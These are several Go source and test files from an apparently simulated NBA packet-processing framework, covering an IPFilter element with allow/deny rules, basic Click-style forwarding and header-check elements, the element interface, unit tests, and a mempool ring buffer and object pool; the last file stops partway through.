// Predicates: `all`, `proto udp|tcp|esp|icmp`, `src port N`, `dst port N`,
// `src net A.B.C.D/L`, `dst net A.B.C.D/L`, combined with `and`. Packets
// matching no rule are denied (Click's default), as are non-IPv4 frames.
// Allowed packets leave on port 0; denied packets are dropped.
type IPFilter struct {
	Base
	rules []ipFilterRule

	// Allowed / Denied count decisions.
	Allowed uint64
	Denied  uint64
}

type ipFilterRule struct {
	allow bool
	preds []ipPredicate
}

type ipPredicate func(hdr []byte, proto int, sport, dport uint16) bool

// Class implements Element.
func (*IPFilter) Class() string { return "IPFilter" }

// Configure implements Element.
func (e *IPFilter) Configure(ctx *ConfigContext, args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("IPFilter needs at least one rule")
	}
	for _, a := range args {
		r, err := parseIPFilterRule(a)
		if err != nil {
			return fmt.Errorf("IPFilter: rule %q: %w", a, err)
		}
		e.rules = append(e.rules, r)
	}
	return nil
}

func parseIPFilterRule(s string) (ipFilterRule, error) {
	fields := strings.Fields(s)
	if len(fields) < 2 {
		return ipFilterRule{}, fmt.Errorf("need '<allow|deny> <predicate>'")
	}
	var r ipFilterRule
	switch fields[0] {
	case "allow":
		r.allow = true
	case "deny":
		r.allow = false
	default:
		return ipFilterRule{}, fmt.Errorf("unknown action %q", fields[0])
	}

	// Split the remainder on "and".
	var clauses [][]string
	cur := []string{}
	for _, f := range fields[1:] {
		if f == "and" {
			if len(cur) == 0 {
				return ipFilterRule{}, fmt.Errorf("dangling 'and'")
			}
			clauses = append(clauses, cur)
			cur = nil
			continue
		}
		cur = append(cur, f)
	}
	if len(cur) == 0 {
		return ipFilterRule{}, fmt.Errorf("empty predicate")
	}
	clauses = append(clauses, cur)

	for _, c := range clauses {
		p, err := parseIPPredicate(c)
		if err != nil {
			return ipFilterRule{}, err
		}
		r.preds = append(r.preds, p)
	}
	return r, nil
}

func parseIPPredicate(c []string) (ipPredicate, error) {
	switch {
	case len(c) == 1 && c[0] == "all":
		return func([]byte, int, uint16, uint16) bool { return true }, nil

	case len(c) == 2 && c[0] == "proto":
		var want int
		switch c[1] {
		case "udp":
			want = packet.ProtoUDP
		case "tcp":
			want = 6
		case "esp":
			want = packet.ProtoESP
		case "icmp":
			want = 1
		default:
			return nil, fmt.Errorf("unknown protocol %q", c[1])
		}
		return func(_ []byte, proto int, _, _ uint16) bool { return proto == want }, nil

	case len(c) == 3 && (c[0] == "src" || c[0] == "dst") && c[1] == "port":
		port, err := strconv.Atoi(c[2])
		if err != nil || port < 0 || port > 65535 {
			return nil, fmt.Errorf("bad port %q", c[2])
		}
		isSrc := c[0] == "src"
		return func(_ []byte, _ int, sport, dport uint16) bool {
			if isSrc {
				return int(sport) == port
			}
			return int(dport) == port
		}, nil

	case len(c) == 3 && (c[0] == "src" || c[0] == "dst") && c[1] == "net":
		addr, plen, err := parseCIDR(c[2])
		if err != nil {
			return nil, err
		}
		var mask uint32
		if plen > 0 {
			mask = ^uint32(0) << (32 - plen)
		}
		want := addr & mask
		isSrc := c[0] == "src"
		return func(hdr []byte, _ int, _, _ uint16) bool {
			a := packet.IPv4Dst(hdr)
			if isSrc {
				a = packet.IPv4Src(hdr)
			}
			return a&mask == want
		}, nil

	default:
		return nil, fmt.Errorf("unknown predicate %q", strings.Join(c, " "))
	}
}

// parseCIDR parses "A.B.C.D/L" into a host-order address and prefix length.
func parseCIDR(s string) (uint32, int, error) {
	addrStr, lenStr, ok := strings.Cut(s, "/")
	if !ok {
		return 0, 0, fmt.Errorf("bad CIDR %q (want A.B.C.D/L)", s)
	}
	plen, err := strconv.Atoi(lenStr)
	if err != nil || plen < 0 || plen > 32 {
		return 0, 0, fmt.Errorf("bad prefix length in %q", s)
	}
	parts := strings.Split(addrStr, ".")
	if len(parts) != 4 {
		return 0, 0, fmt.Errorf("bad address in %q", s)
	}
	var addr uint32
	for _, p := range parts {
		v, err := strconv.Atoi(p)
		if err != nil || v < 0 || v > 255 {
			return 0, 0, fmt.Errorf("bad octet %q in %q", p, s)
		}
		addr = addr<<8 | uint32(v)
	}
	return addr, plen, nil
}

// Process implements Element.
func (e *IPFilter) Process(ctx *ProcContext, pkt *packet.Packet) int {
	f := pkt.Data()
	if len(f) < packet.EthHdrLen+packet.IPv4HdrLen || packet.EthType(f) != packet.EtherTypeIPv4 {
		e.Denied++
		return Drop
	}
	hdr := f[packet.EthHdrLen:]
	proto := packet.IPv4Proto(hdr)
	var sport, dport uint16
	if ihl := packet.IPv4IHL(hdr); len(hdr) >= ihl+4 && (proto == packet.ProtoUDP || proto == 6) {
		sport = packet.UDPSrcPort(hdr[ihl:])
		dport = packet.UDPDstPort(hdr[ihl:])
	}
	for _, r := range e.rules {
		matched := true
		for _, p := range r.preds {
			if !p(hdr, proto, sport, dport) {
				matched = false
				break
			}
		}
		if matched {
			if r.allow {
				e.Allowed++
				return 0
			}
			e.Denied++
			return Drop
		}
	}
	e.Denied++
	return Drop
}
