package element

import (
	"fmt"
	"strconv"

	"nba/internal/batch"
	"nba/internal/packet"
)

func init() {
	Register("FromInput", func() Element { return &FromInput{} })
	Register("ToOutput", func() Element { return &ToOutput{} })
	Register("Discard", func() Element { return &Discard{} })
	Register("NoOp", func() Element { return &NoOp{} })
	Register("L2Forward", func() Element { return &L2Forward{} })
	Register("EchoBack", func() Element { return &EchoBack{} })
	Register("CheckIPHeader", func() Element { return &CheckIPHeader{} })
	Register("CheckIP6Header", func() Element { return &CheckIP6Header{} })
	Register("DecIPTTL", func() Element { return &DecIPTTL{} })
	Register("DecIP6HLIM", func() Element { return &DecIP6HLIM{} })
	Register("DropBroadcasts", func() Element { return &DropBroadcasts{} })
	Register("Classifier", func() Element { return &Classifier{} })
	Register("RandomWeightedBranch", func() Element { return &RandomWeightedBranch{} })
	Register("Queue", func() Element { return &Queue{} })
}

// Base provides default method implementations for simple elements.
type Base struct{}

// Configure accepts no parameters by default.
func (Base) Configure(ctx *ConfigContext, args []string) error {
	if len(args) != 0 {
		return fmt.Errorf("element takes no parameters, got %d", len(args))
	}
	return nil
}

// OutPorts defaults to a single output edge.
func (Base) OutPorts() int { return 1 }

// FromInput is the pipeline entry: the framework injects received batches
// at its output edge. It is never executed per packet.
type FromInput struct{ Base }

func (*FromInput) Class() string                                    { return "FromInput" }
func (*FromInput) IsSource()                                        {}
func (*FromInput) Process(ctx *ProcContext, pkt *packet.Packet) int { return 0 }

// ToOutput terminates the pipeline by transmitting each packet out of the
// NIC port in its AnnoOutPort annotation (paper §3.2: "routing elements now
// use annotation to specify the outgoing NIC port and the framework
// recognizes it after the end of the pipeline").
type ToOutput struct{ Base }

func (*ToOutput) Class() string                                    { return "ToOutput" }
func (*ToOutput) OutPorts() int                                    { return 0 }
func (*ToOutput) SinkKind() SinkKind                               { return SinkTransmit }
func (*ToOutput) Process(ctx *ProcContext, pkt *packet.Packet) int { return 0 }

// Discard terminates the pipeline by releasing each packet.
type Discard struct{ Base }

func (*Discard) Class() string                                    { return "Discard" }
func (*Discard) OutPorts() int                                    { return 0 }
func (*Discard) SinkKind() SinkKind                               { return SinkDiscard }
func (*Discard) Process(ctx *ProcContext, pkt *packet.Packet) int { return 0 }

// NoOp passes packets through unchanged; it exists for the composition
// overhead experiment (paper §4.2).
type NoOp struct{ Base }

func (*NoOp) Class() string                                    { return "NoOp" }
func (*NoOp) Process(ctx *ProcContext, pkt *packet.Packet) int { return 0 }

// L2Forward swaps source and destination MAC addresses and spreads packets
// round-robin over all NIC ports (the paper's minimal L2fwd application,
// §4.6).
type L2Forward struct {
	Base
	numPorts int
	next     int
}

func (*L2Forward) Class() string { return "L2Forward" }

func (e *L2Forward) Configure(ctx *ConfigContext, args []string) error {
	if len(args) != 0 {
		return fmt.Errorf("L2Forward takes no parameters, got %d", len(args))
	}
	e.numPorts = ctx.NumPorts
	return nil
}

func (e *L2Forward) Process(ctx *ProcContext, pkt *packet.Packet) int {
	packet.SwapEthAddrs(pkt.Data())
	pkt.Anno[packet.AnnoOutPort] = uint64(e.next)
	e.next++
	if e.next >= e.numPorts {
		e.next = 0
	}
	return 0
}

// EchoBack swaps MACs and returns the packet out of its input port.
type EchoBack struct{ Base }

func (*EchoBack) Class() string { return "EchoBack" }
func (*EchoBack) Process(ctx *ProcContext, pkt *packet.Packet) int {
	packet.SwapEthAddrs(pkt.Data())
	pkt.Anno[packet.AnnoOutPort] = uint64(pkt.InPort)
	return 0
}

// CheckIPHeader validates IPv4 headers and drops invalid packets (the
// paper's canonical mostly-one-way branch, handled by branch prediction).
type CheckIPHeader struct{ Base }

func (*CheckIPHeader) Class() string { return "CheckIPHeader" }
func (*CheckIPHeader) Process(ctx *ProcContext, pkt *packet.Packet) int {
	f := pkt.Data()
	if len(f) < packet.EthHdrLen+packet.IPv4HdrLen || packet.EthType(f) != packet.EtherTypeIPv4 {
		return Drop
	}
	if packet.CheckIPv4(f[packet.EthHdrLen:]) != nil {
		return Drop
	}
	return 0
}

// CheckIP6Header validates IPv6 headers and drops invalid packets.
type CheckIP6Header struct{ Base }

func (*CheckIP6Header) Class() string { return "CheckIP6Header" }
func (*CheckIP6Header) Process(ctx *ProcContext, pkt *packet.Packet) int {
	f := pkt.Data()
	if len(f) < packet.EthHdrLen+packet.IPv6HdrLen || packet.EthType(f) != packet.EtherTypeIPv6 {
		return Drop
	}
	if packet.CheckIPv6(f[packet.EthHdrLen:]) != nil {
		return Drop
	}
	return 0
}

// DecIPTTL decrements the IPv4 TTL with an incremental checksum update,
// dropping expired packets.
type DecIPTTL struct{ Base }

func (*DecIPTTL) Class() string { return "DecIPTTL" }
func (*DecIPTTL) Process(ctx *ProcContext, pkt *packet.Packet) int {
	if packet.DecIPv4TTL(pkt.Data()[packet.EthHdrLen:]) != nil {
		return Drop
	}
	return 0
}

// DecIP6HLIM decrements the IPv6 hop limit, dropping expired packets.
type DecIP6HLIM struct{ Base }

func (*DecIP6HLIM) Class() string { return "DecIP6HLIM" }
func (*DecIP6HLIM) Process(ctx *ProcContext, pkt *packet.Packet) int {
	if packet.DecIPv6HopLimit(pkt.Data()[packet.EthHdrLen:]) != nil {
		return Drop
	}
	return 0
}

// DropBroadcasts drops Ethernet broadcast frames.
type DropBroadcasts struct{ Base }

func (*DropBroadcasts) Class() string { return "DropBroadcasts" }
func (*DropBroadcasts) Process(ctx *ProcContext, pkt *packet.Packet) int {
	if packet.IsEthBroadcast(pkt.Data()) {
		return Drop
	}
	return 0
}

// Classifier routes packets to output edges by EtherType. Parameters are a
// list of "ip" / "ip6" / "-" (match-all) patterns, one per output edge.
type Classifier struct {
	patterns []uint16 // 0 = match-all
}

func (*Classifier) Class() string { return "Classifier" }

func (e *Classifier) Configure(ctx *ConfigContext, args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("Classifier needs at least one pattern")
	}
	for _, a := range args {
		switch a {
		case "ip":
			e.patterns = append(e.patterns, packet.EtherTypeIPv4)
		case "ip6":
			e.patterns = append(e.patterns, packet.EtherTypeIPv6)
		case "-":
			e.patterns = append(e.patterns, 0)
		default:
			return fmt.Errorf("Classifier: unknown pattern %q", a)
		}
	}
	return nil
}

func (e *Classifier) OutPorts() int { return len(e.patterns) }

func (e *Classifier) Process(ctx *ProcContext, pkt *packet.Packet) int {
	t := packet.EthType(pkt.Data())
	for i, p := range e.patterns {
		if p == 0 || p == t {
			return i
		}
	}
	return Drop
}

// RandomWeightedBranch sends each packet to output edge 1 with the
// configured probability and edge 0 otherwise. It is the synthetic two-way
// branch of the batch-split experiments (paper Figures 1 and 10).
type RandomWeightedBranch struct {
	minorityFrac float64
}

func (*RandomWeightedBranch) Class() string { return "RandomWeightedBranch" }

func (e *RandomWeightedBranch) Configure(ctx *ConfigContext, args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("RandomWeightedBranch needs one parameter (minority fraction)")
	}
	f, err := strconv.ParseFloat(args[0], 64)
	if err != nil || f < 0 || f > 1 {
		return fmt.Errorf("RandomWeightedBranch: bad fraction %q", args[0])
	}
	e.minorityFrac = f
	return nil
}

func (e *RandomWeightedBranch) OutPorts() int { return 2 }

func (e *RandomWeightedBranch) Process(ctx *ProcContext, pkt *packet.Packet) int {
	if ctx.Rand.Bool(e.minorityFrac) {
		return 1
	}
	return 0
}

// Queue stores whole batches and releases them when scheduled. In the
// run-to-completion model no queue is required by default (paper §3.2); it
// exists for configurations that want explicit buffering. As a per-batch
// element it forwards batches without decomposing them.
type Queue struct {
	Base
	depth int
}

func (*Queue) Class() string { return "Queue" }

func (e *Queue) Configure(ctx *ConfigContext, args []string) error {
	if len(args) > 1 {
		return fmt.Errorf("Queue takes at most one parameter (capacity)")
	}
	e.depth = 64
	if len(args) == 1 {
		d, err := strconv.Atoi(args[0])
		if err != nil || d <= 0 {
			return fmt.Errorf("Queue: bad capacity %q", args[0])
		}
		e.depth = d
	}
	return nil
}

func (e *Queue) Process(ctx *ProcContext, pkt *packet.Packet) int { return 0 }

// ProcessBatch forwards the batch as-is (per-batch element).
func (e *Queue) ProcessBatch(ctx *ProcContext, b *batch.Batch) int { return 0 }

// ClassicAdapter adapts a classic Click-style per-packet handler function
// into an NBA element (paper §7: migration of existing Click elements). The
// handler returns the output edge ID, translating Click's push-port calls.
type ClassicAdapter struct {
	Base
	class    string
	outPorts int
	handler  func(*ProcContext, *packet.Packet) int
}

// NewClassicAdapter wraps handler as an element of the given class name
// with the given number of output ports.
func NewClassicAdapter(class string, outPorts int, handler func(*ProcContext, *packet.Packet) int) *ClassicAdapter {
	return &ClassicAdapter{class: class, outPorts: outPorts, handler: handler}
}

func (e *ClassicAdapter) Class() string { return e.class }
func (e *ClassicAdapter) OutPorts() int { return e.outPorts }
func (e *ClassicAdapter) Process(ctx *ProcContext, pkt *packet.Packet) int {
	return e.handler(ctx, pkt)
}
