// Package element defines NBA's packet-processing abstraction: Click-style
// elements extended with batch processing, scheduling and declarative GPU
// offloading (paper §3.2-§3.3).
//
// Elements expose a per-packet Process function; the framework runs the
// iteration loop over batches, handles branching, and — for offloadable
// elements — manages datablock copies and kernel launches. Per-batch
// elements opt into coarse-grained processing with ProcessBatch.
package element

import (
	"fmt"
	"sort"

	"nba/internal/batch"
	"nba/internal/packet"
	"nba/internal/rng"
	"nba/internal/simtime"
)

// Drop is the Process result that discards the packet.
const Drop = batch.ResultDrop

// NodeLocal is the per-NUMA-node shared storage for large read-dominant
// data structures such as forwarding tables (paper §3.2: "elements can
// define and access a shared memory buffer using unique names").
type NodeLocal struct {
	m map[string]any
}

// NewNodeLocal returns empty node-local storage.
func NewNodeLocal() *NodeLocal { return &NodeLocal{m: make(map[string]any)} }

// Get returns the value stored under name, or nil.
func (n *NodeLocal) Get(name string) any { return n.m[name] }

// Set stores value under name.
func (n *NodeLocal) Set(name string, value any) { n.m[name] = value }

// GetOrCreate returns the value under name, invoking build to create and
// store it on first use. This is how per-socket tables are shared across
// the replicated per-worker pipelines.
func GetOrCreate[T any](n *NodeLocal, name string, build func() T) T {
	if v, ok := n.m[name]; ok {
		return v.(T)
	}
	v := build()
	n.m[name] = v
	return v
}

// ConfigContext is passed to Configure when the graph is instantiated.
type ConfigContext struct {
	// Socket is the NUMA node this pipeline replica runs on.
	Socket int
	// Worker is the worker-thread index (replica number).
	Worker int
	// NodeLocal is the socket's shared storage.
	NodeLocal *NodeLocal
	// NumPorts is the number of NIC ports in the topology.
	NumPorts int
	// NumDevices is the number of accelerator devices on this socket.
	NumDevices int
	// Rand is a deterministic per-worker PRNG.
	Rand *rng.Rand
}

// ProcContext is passed to Process during packet handling.
type ProcContext struct {
	// Now is the current virtual time.
	Now simtime.Time
	// Worker and Socket identify the executing pipeline replica.
	Worker int
	Socket int
	// NodeLocal is the socket's shared storage.
	NodeLocal *NodeLocal
	// Rand is the worker's deterministic PRNG.
	Rand *rng.Rand
	// ExtraCycles accumulates data-dependent cost an element wants to
	// charge beyond its class's calibrated model (rarely needed).
	ExtraCycles simtime.Cycles
	// CostScale multiplies element costs; the worker sets it per batch to
	// model memory-bandwidth contention and NUMA penalties. Zero is treated
	// as 1.
	CostScale float64
}

// Element is the basic packet-processing module. Implementations must be
// cheap to replicate: one instance is created per worker.
type Element interface {
	// Class returns the element class name used in configurations and in
	// the cost model.
	Class() string
	// Configure initialises the element from its configuration parameters.
	Configure(ctx *ConfigContext, args []string) error
	// OutPorts returns the number of output edges.
	OutPorts() int
	// Process handles one packet and returns the output port index, or
	// Drop to discard the packet.
	Process(ctx *ProcContext, pkt *packet.Packet) int
}

// BatchElement is implemented by elements that process whole batches
// "as-is" without decomposing them (paper §3.2: per-batch elements, e.g.
// queues and load-balancer decision points).
type BatchElement interface {
	Element
	// ProcessBatch handles the whole batch and returns the output port for
	// all of it, or Drop to discard it entirely.
	ProcessBatch(ctx *ProcContext, b *batch.Batch) int
}

// Sink is implemented by elements that terminate the pipeline (ToOutput,
// Discard): after Process returns, the framework takes ownership of the
// packet (transmit or release) instead of forwarding it along an edge.
type Sink interface {
	Element
	// SinkKind distinguishes transmission from discard.
	SinkKind() SinkKind
}

// SinkKind enumerates pipeline terminations.
type SinkKind int

const (
	// SinkTransmit sends the packet out of the NIC port in its
	// AnnoOutPort annotation.
	SinkTransmit SinkKind = iota
	// SinkDiscard releases the packet.
	SinkDiscard
)

// Source marks the pipeline entry element (FromInput). The framework
// injects received batches into the source's output edge.
type Source interface {
	Element
	IsSource()
}

// Offloadable elements define a CPU-side function (Process) plus a
// device-side function and declarative input/output datablocks (paper §3.3,
// Figure 7 and Table 2).
type Offloadable interface {
	Element
	// Datablocks declares the element's device IO.
	Datablocks() []Datablock
	// ProcessOffloaded performs the device-side computation for every live
	// packet of the batch. It runs functionally on the host; its timing is
	// modelled by the device's kernel cost.
	ProcessOffloaded(ctx *ProcContext, b *batch.Batch)
}

// DatablockKind matches the paper's Table 2 IO types.
type DatablockKind int

const (
	// PartialPacket copies a fixed byte range of each packet.
	PartialPacket DatablockKind = iota
	// WholePacket copies the whole frame from the given offset.
	WholePacket
	// UserData copies per-packet bytes produced/consumed by user pre/post
	// processing functions.
	UserData
)

func (k DatablockKind) String() string {
	switch k {
	case PartialPacket:
		return "partial_pkt"
	case WholePacket:
		return "whole_pkt"
	case UserData:
		return "user"
	default:
		return fmt.Sprintf("datablock(%d)", int(k))
	}
}

// Datablock is a declarative input/output data definition. The framework
// uses it to size host<->device copies and to reuse device-resident data
// between offloadable elements sharing the same Name (paper §3.3:
// "the framework can ... extract chances of reusing GPU-resident data").
type Datablock struct {
	// Name identifies the datablock; elements naming the same datablock
	// share its device buffer.
	Name string
	Kind DatablockKind
	// Offset/Length describe the byte range for PartialPacket.
	Offset, Length int
	// SizeDelta adjusts the copied size for WholePacket (e.g. appended MAC).
	SizeDelta int
	// UserBytes is the per-packet size for UserData.
	UserBytes int
	// H2D/D2H flag the copy directions this element needs.
	H2D, D2H bool
}

// BytesFor returns the number of bytes this datablock moves (per direction)
// for a packet of the given frame length.
func (d Datablock) BytesFor(frameLen int) int {
	switch d.Kind {
	case PartialPacket:
		n := d.Length
		if d.Offset+n > frameLen {
			n = frameLen - d.Offset
		}
		if n < 0 {
			n = 0
		}
		return n
	case WholePacket:
		n := frameLen - d.Offset + d.SizeDelta
		if n < 0 {
			n = 0
		}
		return n
	case UserData:
		return d.UserBytes
	default:
		return 0
	}
}

// Factory creates a fresh element instance.
type Factory func() Element

var registry = map[string]Factory{}

// Register binds an element class name to its factory. Registering the same
// class twice panics: it indicates conflicting element libraries.
func Register(class string, f Factory) {
	if _, dup := registry[class]; dup {
		panic(fmt.Sprintf("element: class %q registered twice", class))
	}
	registry[class] = f
}

// NewByClass instantiates an element by class name.
func NewByClass(class string) (Element, error) {
	f, ok := registry[class]
	if !ok {
		return nil, fmt.Errorf("element: unknown class %q", class)
	}
	return f(), nil
}

// Classes returns the registered class names (for diagnostics).
func Classes() []string {
	out := make([]string, 0, len(registry))
	for k := range registry {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
