package element

import (
	"testing"

	"nba/internal/packet"
)

func TestIPFilterRules(t *testing.T) {
	e := &IPFilter{}
	configure(t, e,
		"allow proto udp and dst port 53",
		"deny src net 10.0.0.0/8",
		"allow all")
	_, pc := newCtx()

	mk := func(src, dst uint32, dport uint16) *packet.Packet {
		p := &packet.Packet{}
		n := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4}, src, dst, 999, dport, 64)
		p.SetLength(n)
		return p
	}

	// Rule 1: udp/53 allowed even from 10/8.
	if r := e.Process(pc, mk(0x0A000001, 5, 53)); r != 0 {
		t.Errorf("udp/53 from 10/8: %d, want allow", r)
	}
	// Rule 2: other traffic from 10/8 denied.
	if r := e.Process(pc, mk(0x0A000001, 5, 80)); r != Drop {
		t.Errorf("udp/80 from 10/8: %d, want deny", r)
	}
	// Rule 3: everything else allowed.
	if r := e.Process(pc, mk(0xC0A80001, 5, 80)); r != 0 {
		t.Errorf("udp/80 from 192.168/16: %d, want allow", r)
	}
	if e.Allowed != 2 || e.Denied != 1 {
		t.Errorf("Allowed=%d Denied=%d, want 2,1", e.Allowed, e.Denied)
	}

	// Non-IPv4 frames are denied.
	v6 := mkIPv6Packet(t, 64)
	if r := e.Process(pc, v6); r != Drop {
		t.Error("IPv6 frame not denied")
	}
}

func TestIPFilterDefaultDeny(t *testing.T) {
	e := &IPFilter{}
	configure(t, e, "allow dst port 443")
	_, pc := newCtx()
	p := mkIPv4Packet(t, 64) // dport 53
	if r := e.Process(pc, p); r != Drop {
		t.Error("unmatched packet not denied by default")
	}
}

func TestIPFilterConfigErrors(t *testing.T) {
	cc, _ := newCtx()
	bad := [][]string{
		nil,
		{"frobnicate all"},
		{"allow"},
		{"allow proto sctp"},
		{"allow src port notaport"},
		{"allow src port 70000"},
		{"allow src net 10.0.0.0"},
		{"allow src net 10.0.0.0/33"},
		{"allow src net 10.0.300.0/8"},
		{"allow src net 10.0.0/8"},
		{"allow and proto udp"},
		{"allow wibble wobble"},
	}
	for _, args := range bad {
		if err := (&IPFilter{}).Configure(cc, args); err == nil {
			t.Errorf("config %v accepted", args)
		}
	}
}

func TestPaintAndPaintSwitch(t *testing.T) {
	paint := &Paint{}
	configure(t, paint, "2")
	sw := &PaintSwitch{}
	configure(t, sw, "3")
	if sw.OutPorts() != 3 {
		t.Fatalf("OutPorts = %d", sw.OutPorts())
	}
	_, pc := newCtx()
	p := mkIPv4Packet(t, 64)
	paint.Process(pc, p)
	if r := sw.Process(pc, p); r != 2 {
		t.Errorf("painted 2, switched to %d", r)
	}
	p.Anno[packet.AnnoUser] = 7 // out of range
	if r := sw.Process(pc, p); r != Drop {
		t.Errorf("out-of-range paint -> %d, want Drop", r)
	}
}

func TestPaintConfigErrors(t *testing.T) {
	cc, _ := newCtx()
	for _, args := range [][]string{nil, {"256"}, {"x"}, {"1", "2"}} {
		if err := (&Paint{}).Configure(cc, args); err == nil {
			t.Errorf("Paint config %v accepted", args)
		}
	}
	for _, args := range [][]string{nil, {"0"}, {"65"}, {"x"}} {
		if err := (&PaintSwitch{}).Configure(cc, args); err == nil {
			t.Errorf("PaintSwitch config %v accepted", args)
		}
	}
}

func TestRandomSample(t *testing.T) {
	e := &RandomSample{}
	configure(t, e, "0.25")
	_, pc := newCtx()
	p := mkIPv4Packet(t, 64)
	kept := 0
	const n = 40000
	for i := 0; i < n; i++ {
		if e.Process(pc, p) == 0 {
			kept++
		}
	}
	frac := float64(kept) / n
	if frac < 0.23 || frac > 0.27 {
		t.Errorf("kept fraction = %v, want ~0.25", frac)
	}
	cc, _ := newCtx()
	if err := (&RandomSample{}).Configure(cc, []string{"1.5"}); err == nil {
		t.Error("bad probability accepted")
	}
}

func TestSetIPTTL(t *testing.T) {
	e := &SetIPTTL{}
	configure(t, e, "7")
	_, pc := newCtx()
	p := mkIPv4Packet(t, 64)
	if r := e.Process(pc, p); r != 0 {
		t.Fatalf("Process = %d", r)
	}
	h := p.Data()[packet.EthHdrLen:]
	if packet.IPv4TTL(h) != 7 {
		t.Errorf("TTL = %d, want 7", packet.IPv4TTL(h))
	}
	if packet.CheckIPv4(h) != nil {
		t.Error("checksum broken after SetIPTTL")
	}
	cc, _ := newCtx()
	if err := (&SetIPTTL{}).Configure(cc, []string{"0"}); err == nil {
		t.Error("TTL 0 accepted")
	}
}

func TestCheckUDPHeader(t *testing.T) {
	e := &CheckUDPHeader{}
	configure(t, e)
	_, pc := newCtx()
	good := mkIPv4Packet(t, 64)
	if r := e.Process(pc, good); r != 0 {
		t.Errorf("valid UDP rejected: %d", r)
	}
	// Corrupt the UDP length field beyond the IP payload.
	bad := mkIPv4Packet(t, 64)
	h := bad.Data()[packet.EthHdrLen:]
	h[24], h[25] = 0xff, 0xff
	if r := e.Process(pc, bad); r != Drop {
		t.Error("oversized UDP length accepted")
	}
	// Non-UDP protocol.
	esp := mkIPv4Packet(t, 64)
	esp.Data()[packet.EthHdrLen+9] = packet.ProtoESP
	packet.SetIPv4Checksum(esp.Data()[packet.EthHdrLen:])
	if r := e.Process(pc, esp); r != Drop {
		t.Error("non-UDP accepted")
	}
}

func TestCounterElement(t *testing.T) {
	e := &Counter{}
	configure(t, e)
	_, pc := newCtx()
	for i := 0; i < 5; i++ {
		e.Process(pc, mkIPv4Packet(t, 100))
	}
	if e.Packets != 5 || e.Bytes != 500 {
		t.Errorf("Packets=%d Bytes=%d, want 5,500", e.Packets, e.Bytes)
	}
}

func TestNewElementsRegistered(t *testing.T) {
	for _, class := range []string{"IPFilter", "Paint", "PaintSwitch", "RandomSample", "SetIPTTL", "CheckUDPHeader", "Counter"} {
		if _, err := NewByClass(class); err != nil {
			t.Errorf("NewByClass(%q): %v", class, err)
		}
	}
}
