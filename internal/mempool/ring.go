package mempool

import "fmt"

// Ring is a fixed-capacity FIFO ring buffer, the simulation counterpart of
// DPDK's rte_ring used between worker and device threads. Capacity is
// rounded up to a power of two for cheap index masking.
type Ring[T any] struct {
	buf  []T
	mask uint64
	head uint64 // next slot to pop
	tail uint64 // next slot to push

	drops uint64
}

// NewRing creates a ring holding at least n elements.
func NewRing[T any](n int) *Ring[T] {
	if n <= 0 {
		panic(fmt.Sprintf("mempool: ring capacity must be positive, got %d", n))
	}
	cap := 1
	for cap < n {
		cap <<= 1
	}
	return &Ring[T]{buf: make([]T, cap), mask: uint64(cap - 1)}
}

// Cap returns the ring capacity.
func (r *Ring[T]) Cap() int { return len(r.buf) }

// Len returns the number of queued elements.
func (r *Ring[T]) Len() int { return int(r.tail - r.head) }

// Push enqueues v; it reports false (and counts a drop) when full.
func (r *Ring[T]) Push(v T) bool {
	if r.tail-r.head == uint64(len(r.buf)) {
		r.drops++
		return false
	}
	r.buf[r.tail&r.mask] = v
	r.tail++
	return true
}

// Pop dequeues the oldest element; ok is false when empty.
func (r *Ring[T]) Pop() (v T, ok bool) {
	if r.head == r.tail {
		var zero T
		return zero, false
	}
	v = r.buf[r.head&r.mask]
	var zero T
	r.buf[r.head&r.mask] = zero
	r.head++
	return v, true
}

// Peek returns the oldest element without removing it.
func (r *Ring[T]) Peek() (v T, ok bool) {
	if r.head == r.tail {
		var zero T
		return zero, false
	}
	return r.buf[r.head&r.mask], true
}

// Drops returns the number of failed Push calls.
func (r *Ring[T]) Drops() uint64 { return r.drops }
