// Package mempool provides freelist-based object pools modelled on DPDK's
// rte_mempool, which NBA relies on for allocating and releasing packet
// buffers and batch objects "at different times with minimal overheads"
// (paper §3.1).
//
// Pools are NUMA-aware in the sense that the framework creates one pool per
// socket and never shares a pool across sockets (shared-nothing workers),
// so no locking is needed — the simulation is single-threaded in virtual
// time anyway.
package mempool

import (
	"errors"
	"fmt"
)

// ErrExhausted is returned by Get when the pool is empty. Real DPDK mempools
// fail allocation the same way; callers must handle it (typically by
// dropping the batch), and the failure-injection tests exercise that path.
var ErrExhausted = errors.New("mempool: exhausted")

// Resetter can be implemented by pooled objects to be cleaned on release.
type Resetter interface{ Reset() }

// Stats counts pool activity.
type Stats struct {
	Gets        uint64
	Puts        uint64
	Failures    uint64 // Get calls that returned ErrExhausted
	HighWater   int    // max objects simultaneously outstanding
	Capacity    int
	Outstanding int
}

// Pool is a fixed-capacity freelist of *T. All objects are allocated up
// front; Get/Put never touch the Go heap, mirroring the "no allocation on
// the data path" discipline of the original system.
type Pool[T any] struct {
	free  []*T
	stats Stats
	name  string

	// inFree tracks which objects are currently on the freelist when debug
	// checks are enabled (see EnableDebugChecks); nil in normal operation,
	// so the hot path pays only a nil check.
	inFree map[*T]bool
}

// New creates a pool of capacity n. If construct is non-nil it is invoked
// once per object at creation time.
func New[T any](name string, n int, construct func(*T)) *Pool[T] {
	if n <= 0 {
		panic(fmt.Sprintf("mempool %q: capacity must be positive, got %d", name, n))
	}
	p := &Pool[T]{
		free: make([]*T, 0, n),
		name: name,
	}
	p.stats.Capacity = n
	backing := make([]T, n)
	for i := n - 1; i >= 0; i-- {
		obj := &backing[i]
		if construct != nil {
			construct(obj)
		}
		p.free = append(p.free, obj)
	}
	if debugChecksDefault {
		p.EnableDebugChecks()
	}
	return p
}

// Name returns the pool's diagnostic name.
func (p *Pool[T]) Name() string { return p.name }

// Get pops an object from the freelist.
//
//nba:hotpath
func (p *Pool[T]) Get() (*T, error) {
	if len(p.free) == 0 {
		p.stats.Failures++
		return nil, ErrExhausted
	}
	obj := p.free[len(p.free)-1]
	p.free[len(p.free)-1] = nil
	p.free = p.free[:len(p.free)-1]
	if p.inFree != nil {
		delete(p.inFree, obj)
	}
	p.stats.Gets++
	p.stats.Outstanding++ //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
	if p.stats.Outstanding > p.stats.HighWater {
		p.stats.HighWater = p.stats.Outstanding
	}
	return obj, nil
}

// MustGet is Get for callers that have sized the pool to never fail
